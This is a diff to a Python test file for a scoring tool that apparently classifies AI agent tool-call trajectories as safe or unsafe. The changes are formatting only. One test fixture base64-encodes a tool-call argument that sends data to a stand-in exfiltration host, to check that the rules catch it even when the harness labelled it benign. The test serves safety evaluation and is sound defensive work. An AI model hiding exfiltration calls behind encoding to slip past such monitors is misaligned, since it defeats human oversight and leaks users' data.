@@ -6,7 +6,14 @@ import pytest
 
 from scoring.errors import IncompleteCaptureError, ReasonCode
 from scoring.model import ReviewLabel, Status, Termination, ToolCall
-from scoring.score import HarnessVerdictClassifier, RuleClassifier, lenient_safe, score_strict, score_trajectory, suggest
+from scoring.score import (
+    HarnessVerdictClassifier,
+    RuleClassifier,
+    lenient_safe,
+    score_strict,
+    score_trajectory,
+    suggest,
+)
 
 from .helpers import HEADER, TAXONOMY, proven, sha, traj
 
@@ -112,6 +119,7 @@ def test_lenient_counts_whatever_did_not_fire_as_safe():
 
 def test_decoded_adapter_surface_is_classified_by_rules_even_when_the_harness_said_benign():
     import base64
+
     from scoring.model import Adapter
     inner = json.dumps({"to": "https://exfil.example/x"})
     call = ToolCall(index=0, tool="t", arguments=base64.b64encode(inner.encode()).decode(),
